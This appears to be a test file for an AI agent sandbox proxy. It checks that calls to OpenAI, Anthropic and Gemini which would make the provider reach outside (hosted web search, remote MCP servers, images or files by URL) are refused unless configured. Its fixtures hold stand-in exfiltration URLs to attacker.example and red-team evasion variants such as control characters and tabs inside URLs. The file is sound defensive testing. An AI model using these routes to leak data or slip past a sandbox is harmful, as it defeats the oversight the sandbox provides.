/**
 * What a provider would reach for the agent, through the official SDKs: hosted web search and
 * fetch, URL context and search grounding, remote MCP servers the provider calls, and content by
 * URL. Each is a way past the socket (data out in a URL or a tool call, content in from a server
 * no MCPBackend approved), so a sandbox refuses it unless `models.providerReach` names it: a 400
 * in the client's own shape naming the field, and nothing sent upstream.
 */
import Anthropic from '@anthropic-ai/sdk';
import { ApiError, GoogleGenAI } from '@google/genai';
import OpenAI from 'openai';
import { describe, expect, it } from 'vitest';
import type { MockKind } from '../../mocks/index.js';
import { genaiClient, providerStackForFile, refusedUnsent } from './harness.js';

const KINDS: readonly MockKind[] = ['openai', 'anthropic', 'gemini'];
const closed = providerStackForFile('reach-closed', { kinds: KINDS });
const open = providerStackForFile('reach-open', { kinds: KINDS, extra: { models: { providerReach: ['web', 'mcp', 'urls'] } } });

const EXFIL = 'https://attacker.example/pixel.png?d=SECRET-DATA';
const PNG = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==';

/** A Responses call that gives back `part` in a custom tool's output, after some text. */
const customToolOutput =
  (part: OpenAI.Responses.ResponseInputImage | OpenAI.Responses.ResponseInputFile) =>
  (c: OpenAI): Promise<unknown> =>
    c.responses.create({
      model: 'via-openai',
      tools: [{ type: 'custom', name: 'shot' }],
      input: [
        { type: 'custom_tool_call', call_id: 'c1', name: 'shot', input: 'x' },
        { type: 'custom_tool_call_output', call_id: 'c1', output: [{ type: 'input_text', text: 'here' }, part] },
      ],
    });

/** What each SDK's call asks the provider to reach, by API: [name, call, the param the refusal names]. */
const OPENAI_CHAT: [string, (c: OpenAI) => Promise<unknown>, string][] = [
  ['an image by URL (the provider downloads it, query string and all)', (c) => c.chat.completions.create({ model: 'via-openai', messages: [{ role: 'user', content: [{ type: 'text', text: 'describe' }, { type: 'image_url', image_url: { url: EXFIL } }] }] }), 'messages[0].content[1].image_url.url'],
  ['web_search_options', (c) => c.chat.completions.create({ model: 'via-openai', web_search_options: {}, messages: [{ role: 'user', content: 'search' }] }), 'web_search_options'],
];
const RESPONSES: [string, (c: OpenAI) => Promise<unknown>, string][] = [
  ['the hosted mcp tool', (c) => c.responses.create({ model: 'via-openai', input: 'use it', tools: [{ type: 'mcp', server_label: 'exfil', server_url: 'https://attacker.example/mcp', require_approval: 'never' }] }), 'tools[0]'],
  ['the hosted web_search tool', (c) => c.responses.create({ model: 'via-openai', input: 'search', tools: [{ type: 'web_search' }] }), 'tools[0]'],
  ['an input_image by URL', (c) => c.responses.create({ model: 'via-openai', input: [{ role: 'user', content: [{ type: 'input_text', text: 'describe' }, { type: 'input_image', image_url: EXFIL, detail: 'auto' }] }] }), 'input[0].content[1].image_url'],
  // Red team 12: records the check used to skip whole.
  ['an image by URL in a custom tool output', customToolOutput({ type: 'input_image', image_url: EXFIL, detail: 'auto' }), 'input[1].output[1].image_url'],
  ['a file by URL in a custom tool output', customToolOutput({ type: 'input_file', file_url: 'https://attacker.example/doc.pdf?d=SECRET' }), 'input[1].output[1].file_url'],
  [
    'a remote MCP server loaded by a client tool search',
    (c) =>
      c.responses.create({
        model: 'via-openai',
        tools: [{ type: 'tool_search', execution: 'client' }],
        input: [
          { role: 'user', content: 'look it up' },
          { type: 'tool_search_call', call_id: 't1', execution: 'client', arguments: { query: 'web' }, status: 'completed' },
          { type: 'tool_search_output', call_id: 't1', execution: 'client', status: 'completed', tools: [{ type: 'function', name: 'f', parameters: null, strict: null }, { type: 'mcp', server_label: 'exfil', server_url: 'https://attacker.example/mcp', require_approval: 'never' }] },
        ],
      }),
    'input[2].tools[1]',
  ],
  ['hosted web search in additional tools', (c) => c.responses.create({ model: 'via-openai', input: [{ type: 'additional_tools', role: 'developer', tools: [{ type: 'web_search' }] }, { role: 'user', content: 'search' }] }), 'input[0].tools[0]'],
];
const MESSAGES: [string, (c: Anthropic) => Promise<unknown>, string][] = [
  ['mcp_servers (the MCP connector beta)', (c) => c.beta.messages.create({ model: 'via-anthropic', max_tokens: 64, betas: ['mcp-client-2025-04-04'], mcp_servers: [{ type: 'url', url: 'https://attacker.example/mcp', name: 'exfil' }], messages: [{ role: 'user', content: 'use it' }] }), 'mcp_servers'],
  ['the web_fetch server tool', (c) => c.messages.create({ model: 'via-anthropic', max_tokens: 64, tools: [{ type: 'web_fetch_20250910', name: 'web_fetch' } as never], messages: [{ role: 'user', content: 'fetch it' }] }), 'tools[0]'],
  ['an image by URL', (c) => c.messages.create({ model: 'via-anthropic', max_tokens: 64, messages: [{ role: 'user', content: [{ type: 'image', source: { type: 'url', url: EXFIL } }, { type: 'text', text: 'describe' }] }] }), 'messages[0].content[0].source.url'],
  [
    'a document by URL inside a tool result',
    (c) =>
      c.messages.create({
        model: 'via-anthropic',
        max_tokens: 64,
        messages: [
          { role: 'user', content: 'read it' },
          { role: 'assistant', content: [{ type: 'tool_use', id: 'toolu_01', name: 'read', input: { image_url: EXFIL } }] },
          { role: 'user', content: [{ type: 'tool_result', tool_use_id: 'toolu_01', content: [{ type: 'document', source: { type: 'url', url: 'https://attacker.example/a.pdf?d=SECRET' } } as never] }] },
        ],
      }),
    'messages[2].content[0].content[0].source.url',
  ],
];
const GEMINI: [string, (g: GoogleGenAI) => Promise<unknown>, string][] = [
  ['Google Search grounding', (g) => g.models.generateContent({ model: 'via-gemini', contents: 'search', config: { tools: [{ googleSearch: {} }] } }), 'tools[0].googleSearch'],
  ['URL context', (g) => g.models.generateContent({ model: 'via-gemini', contents: 'read https://attacker.example', config: { tools: [{ urlContext: {} }] } }), 'tools[0].urlContext'],
  ['file data by a URL outside Google', (g) => g.models.generateContent({ model: 'via-gemini', contents: [{ role: 'user', parts: [{ fileData: { fileUri: EXFIL, mimeType: 'image/png' } }, { text: 'describe' }] }] }), 'contents[0].parts[0].fileData.fileUri'],
];

const ANTHROPIC_HEADERS = { 'content-type': 'application/json', 'anthropic-version': '2023-06-01' };
const JSON_HEADERS = { 'content-type': 'application/json' };
const user = (content: unknown) => [{ role: 'user', content }];

/** What the SDKs' types do not all spell, sent as JSON (red team 7's ways around the first check): [name, path, headers, body]. */
const RAW: [string, string, Record<string, string>, object][] = [
  ['a Gemini tool that calls a remote MCP server', '/v1beta/models/via-gemini:generateContent', JSON_HEADERS, { contents: user([{ text: 'x' }]).map((m) => ({ role: m.role, parts: m.content })), tools: [{ mcpServers: [{ name: 'exfil', streamableHttpTransport: { url: 'https://attacker.example/mcp' } }] }] }],
  ['an image by URL in Anthropic count_tokens', '/v1/messages/count_tokens', ANTHROPIC_HEADERS, { model: 'via-anthropic', messages: user([{ type: 'image', source: { type: 'url', url: EXFIL } }]) }],
  ['file data by URL in Gemini countTokens', '/v1beta/models/via-gemini:countTokens', JSON_HEADERS, { contents: [{ role: 'user', parts: [{ fileData: { fileUri: EXFIL, mimeType: 'image/png' } }] }] }],
  ['an image by URL inside a content document', '/v1/messages', ANTHROPIC_HEADERS, { model: 'via-anthropic', max_tokens: 16, messages: user([{ type: 'document', source: { type: 'content', content: [{ type: 'image', source: { type: 'url', url: EXFIL } }] } }]) }],
  ['file data by URL in a function response', '/v1beta/models/via-gemini:generateContent', JSON_HEADERS, { contents: [{ role: 'user', parts: [{ functionResponse: { name: 'f', response: {}, parts: [{ fileData: { fileUri: EXFIL, mimeType: 'image/png' } }] } }] }] }],
  ['file data by URL in the system instruction', '/v1beta/models/via-gemini:generateContent', JSON_HEADERS, { systemInstruction: { parts: [{ file_data: { file_uri: EXFIL, mime_type: 'image/png' } }] }, contents: [{ role: 'user', parts: [{ text: 'x' }] }] }],
  ['a code interpreter with network access', '/v1/responses', JSON_HEADERS, { model: 'via-openai', input: 'x', tools: [{ type: 'code_interpreter', container: { type: 'auto', network_policy: { type: 'allowlist', allowed_domains: ['attacker.example'] } } }] }],
  ['a screenshot by URL in a computer call output', '/v1/responses', JSON_HEADERS, { model: 'via-openai', input: [{ type: 'computer_call_output', call_id: 'c1', output: { type: 'computer_screenshot', image_url: EXFIL } }] }],
  ['an image by URL in prompt variables', '/v1/responses', JSON_HEADERS, { model: 'via-openai', prompt: { id: 'pmpt_1', variables: { pic: { type: 'input_image', image_url: EXFIL } } }, input: 'x' }],
  ['a Cloud Storage image', '/v1/chat/completions', JSON_HEADERS, { model: 'via-gemini', messages: user([{ type: 'image_url', image_url: { url: 'gs://attacker-bucket/SECRET.png' } }]) }],
  ['a URL behind a control character', '/v1/messages', ANTHROPIC_HEADERS, { model: 'via-anthropic', max_tokens: 16, messages: user([{ type: 'image', source: { type: 'url', url: `\u0001${EXFIL}` } }]) }],
  ['OpenRouter web plugins', '/v1/chat/completions', JSON_HEADERS, { model: 'via-openai', plugins: [{ id: 'web' }], messages: user('x') }],
  ['a hosted tool type the sidecar does not know', '/v1/responses', JSON_HEADERS, { model: 'via-openai', input: 'x', tools: [{ type: 'browser_2027' }] }],
  ['a URL with a tab inside its scheme (URL parsers remove it)', '/v1/chat/completions', JSON_HEADERS, { model: 'via-anthropic', messages: user([{ type: 'image_url', image_url: { url: 'ht\ttps://attacker.example/p.png?d=SECRET' } }]) }],
  ['an image generation mask by URL', '/v1/responses', JSON_HEADERS, { model: 'via-openai', input: 'x', tools: [{ type: 'image_generation', input_image_mask: { image_url: EXFIL } }] }],
  ['a web tool inside a namespace', '/v1/responses', JSON_HEADERS, { model: 'via-openai', input: 'x', tools: [{ type: 'namespace', name: 'ns', tools: [{ type: 'web_search' }] }] }],
];

/** What real agents send that reaches nothing (the verifier's false positives): [name, path, headers, body]. */
const QUIET: [string, string, Record<string, string>, object][] = [
  ["Codex's namespace of sub-agent functions", '/v1/responses', JSON_HEADERS, { model: 'via-openai', input: 'x', tools: [{ type: 'namespace', name: 'multi_agent_v1', tools: [{ type: 'function', name: 'spawn', parameters: { type: 'object', properties: {} } }] }] }],
  ['client-run Responses tools: shell, tool_search, programmatic_tool_calling', '/v1/responses', JSON_HEADERS, { model: 'via-openai', input: 'x', tools: [{ type: 'shell' }, { type: 'tool_search' }, { type: 'programmatic_tool_calling' }] }],
  [
    'replayed records of quiet tools that name URLs: a shell command, code output, a URL citation',
    '/v1/responses',
    JSON_HEADERS,
    {
      model: 'via-openai',
      input: [
        { type: 'local_shell_call', id: 'lsh_1', call_id: 'c1', status: 'completed', action: { type: 'exec', command: ['curl', '-s', 'https://docs.example.com/page'], env: { PIP_INDEX_URL: 'https://pypi.internal/simple' } } },
        { type: 'local_shell_call_output', call_id: 'c1', output: 'ok' },
        { type: 'code_interpreter_call', id: 'ci_1', status: 'completed', code: 'print(1)', container_id: 'cntr_1', outputs: [{ type: 'logs', logs: 'https://example.com printed' }] },
        { role: 'assistant', content: [{ type: 'output_text', text: 'see', annotations: [{ type: 'url_citation', url: 'https://example.com/a', title: 'a', start_index: 0, end_index: 3 }] }] },
        { role: 'user', content: 'go on' },
      ],
    },
  ],
  [
    'outputs the client gives back that start with a URL, and a tool search that loads a function',
    '/v1/responses',
    JSON_HEADERS,
    {
      model: 'via-openai',
      input: [
        { type: 'shell_call', call_id: 'c1', action: { commands: ['curl -sI https://example.com'] } },
        { type: 'shell_call_output', call_id: 'c1', output: [{ stdout: 'https://example.com/ moved', stderr: 'https://example.com: 301', outcome: { type: 'exit', exit_code: 0 } }] },
        { type: 'custom_tool_call', call_id: 'c2', name: 'open', input: 'https://example.com' },
        { type: 'custom_tool_call_output', call_id: 'c2', output: 'https://example.com/a opened' },
        { type: 'tool_search_call', call_id: 't1', execution: 'client', arguments: { query: 'fetch https://example.com' } },
        { type: 'tool_search_output', call_id: 't1', execution: 'client', tools: [{ type: 'function', name: 'fetch', description: 'Fetches https://example.com', parameters: { type: 'object', properties: {} } }] },
        { role: 'user', content: 'go on' },
      ],
    },
  ],
  ['a document whose context starts with a URL', '/v1/messages', ANTHROPIC_HEADERS, { model: 'via-anthropic', max_tokens: 16, messages: user([{ type: 'document', source: { type: 'text', media_type: 'text/plain', data: 'notes' }, context: 'https://example.com/origin of these notes' }, { type: 'text', text: 'read' }]) }],
];

describe('a sandbox that allows its providers to reach nothing (the default)', () => {
  it.each(OPENAI_CHAT)('refuses %s in chat completions, in OpenAI\'s shape, naming the field', async (_name, call, param) => {
    const error = await refusedUnsent(closed, OpenAI.BadRequestError, () => call(closed.stack.openai({ maxRetries: 0 })));
    expect(error).toMatchObject({ status: 400, param, code: 'provider_reach_not_allowed', message: expect.stringContaining('reaches past the sandbox') });
    expect(error.message).toContain('sandbox reach-closed does not allow');
  });

  it.each(RESPONSES)('refuses %s in the Responses API', async (_name, call, param) => {
    const error = await refusedUnsent(closed, OpenAI.BadRequestError, () => call(closed.stack.openai({ maxRetries: 0 })));
    expect(error).toMatchObject({ status: 400, param, code: 'provider_reach_not_allowed' });
  });

  it.each(MESSAGES)('refuses %s in the Messages API, in Anthropic\'s shape', async (_name, call) => {
    const error = await refusedUnsent(closed, Anthropic.BadRequestError, () => call(closed.stack.anthropic({ maxRetries: 0 })));
    expect(error.error).toMatchObject({ type: 'error', error: { type: 'invalid_request_error', message: expect.stringContaining('reaches past the sandbox') } });
  });

  it.each(GEMINI)('refuses %s in the Gemini API, in Google\'s shape', async (_name, call, param) => {
    const error = await refusedUnsent(closed, ApiError, () => call(genaiClient(closed.stack)));
    expect(error).toMatchObject({ status: 400, message: expect.stringContaining('reaches past the sandbox') });
    expect(error.message).toContain(param);
  });

  it.each(RAW)('refuses %s', async (_name, path, headers, body) => {
    const before = closed.sentUpstream;
    const response = await closed.stack.fetch(path, { method: 'POST', headers, body: JSON.stringify(body).replace('\\\\u0001', '\\u0001') });
    expect(response.status).toBe(400);
    expect(await response.text()).toContain('reaches past the sandbox');
    expect(closed.sentUpstream).toBe(before);
  });

  it('refuses a Google file beside a URL under the other name of the same field: Gemini might read either', async () => {
    const before = closed.sentUpstream;
    const body = { contents: [{ role: 'user', parts: [{ fileData: { fileUri: 'https://generativelanguage.googleapis.com/v1beta/files/abc', mimeType: 'image/png' }, file_data: { file_uri: EXFIL, mime_type: 'image/png' } }] }] };
    const response = await closed.stack.fetch('/v1beta/models/via-gemini:generateContent', { method: 'POST', headers: JSON_HEADERS, body: JSON.stringify(body) });
    expect(response.status).toBe(400);
    expect(await response.text()).toContain('both fileData and file_data are set');
    expect(closed.sentUpstream).toBe(before);
  });

  it.each(QUIET)('serves %s', async (_name, path, headers, body) => {
    const response = await closed.stack.fetch(path, { method: 'POST', headers, body: JSON.stringify(body) });
    expect(await response.text()).not.toContain('reaches past the sandbox');
  });

  it('serves what stays inside: images as data, a Gemini file uploaded to Google, a tool input that names a URL, hosted tools that reach nothing', async () => {
    const chat = await closed.stack.openai().chat.completions.create({ model: 'via-anthropic', messages: [{ role: 'user', content: [{ type: 'text', text: 'describe' }, { type: 'image_url', image_url: { url: `data:image/png;base64,${PNG}` } }] }] });
    expect(chat.choices[0]!.message.content).toContain('describe');
    const uploaded = await genaiClient(closed.stack).models.generateContent({ model: 'via-gemini', contents: [{ role: 'user', parts: [{ fileData: { fileUri: 'https://generativelanguage.googleapis.com/v1beta/files/abc123', mimeType: 'application/pdf' } }, { text: 'summarise' }] }] });
    expect(uploaded.text).toContain('summarise');
    const history = await closed.stack.anthropic().messages.create({
      model: 'via-anthropic',
      max_tokens: 64,
      messages: [
        { role: 'user', content: 'look' },
        { role: 'assistant', content: [{ type: 'tool_use', id: 'toolu_02', name: 'look', input: { image_url: { url: EXFIL } } }] },
        { role: 'user', content: [{ type: 'tool_result', tool_use_id: 'toolu_02', content: 'seen' }] },
      ],
    });
    expect(history.type).toBe('message');
    const interpreter = await closed.stack.openai().responses.create({ model: 'via-openai', input: 'compute', tools: [{ type: 'code_interpreter', container: { type: 'auto' } }] });
    expect(interpreter.status).toBe('completed');
    // Codex's default: OpenAI's web search of its cached index only, which contacts no site.
    const cached = await closed.stack.openai().responses.create({ model: 'via-openai', input: 'look it up', tools: [{ type: 'web_search', external_web_access: false } as never] });
    expect(cached.status).toBe('completed');
    // URLs in words and in the agent's own tool calls and results are words.
    const words = await closed.stack.openai().chat.completions.create({
      model: 'via-openai',
      tools: [{ type: 'function', function: { name: 'fetch', description: 'Fetches https://example.com pages', parameters: { type: 'object', properties: { url: { type: 'string', default: 'https://example.com' } } } } }],
      messages: [
        { role: 'user', content: `summarise ${EXFIL}` },
        { role: 'assistant', content: null, tool_calls: [{ id: 'call_1', type: 'function', function: { name: 'fetch', arguments: JSON.stringify({ url: EXFIL }) } }] },
        { role: 'tool', tool_call_id: 'call_1', content: `fetched ${EXFIL}` },
      ],
    });
    expect(words.choices[0]!.message).toBeTruthy();
    const embedded = await closed.stack.openai().embeddings.create({ model: 'via-openai', input: EXFIL });
    expect(embedded.data).toHaveLength(1);
    const searched = await closed.stack.anthropic().messages.create({ model: 'via-anthropic', max_tokens: 16, messages: [{ role: 'user', content: [{ type: 'search_result', source: EXFIL, title: 't', content: [{ type: 'text', text: 'found' }] } as never, { type: 'text', text: 'use it' }] }] });
    expect(searched.type).toBe('message');
  });
});

describe('a sandbox that allows them (models.providerReach: [web, mcp, urls])', () => {
  it('passes each to a provider of its own API, as sent', async () => {
    const openai = open.stack.openai();
    for (const [, call] of [...OPENAI_CHAT, ...RESPONSES]) await call(openai);
    const anthropic = open.stack.anthropic();
    for (const [, call] of MESSAGES) await call(anthropic);
    for (const [, call] of GEMINI) await call(genaiClient(open.stack));
    const bodies = (kind: MockKind) => open.mocks.get(kind)!.received.map((r) => JSON.stringify(r.body));
    expect(bodies('openai').filter((b) => b.includes('attacker.example') || b.includes('web_search'))).toHaveLength(OPENAI_CHAT.length + RESPONSES.length);
    expect(bodies('anthropic').filter((b) => b.includes('attacker.example') || b.includes('web_fetch'))).toHaveLength(4);
    expect(bodies('gemini').filter((b) => b.includes('attacker.example') || b.includes('googleSearch') || b.includes('urlContext'))).toHaveLength(3);
  });
});
